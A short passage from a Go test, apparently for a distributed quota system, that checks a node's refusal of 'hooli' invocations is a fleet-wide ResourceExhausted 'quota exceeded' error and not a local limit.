	t.Logf("C refused hooli after %d invocations of its own (ledger %d): %v", extra, own, refused)
	if status.Code(refused) != codes.ResourceExhausted || !strings.Contains(refused.Error(), "quota exceeded") {
		t.Errorf("C past the fleet's cap: %v, want ResourceExhausted quota exceeded", refused)
	}
	if own != extra || own >= 10 {
		t.Errorf("C's ledger holds %d invocations of hooli (%d admitted): the refusal is not the fleet's", own, extra)
	}
}
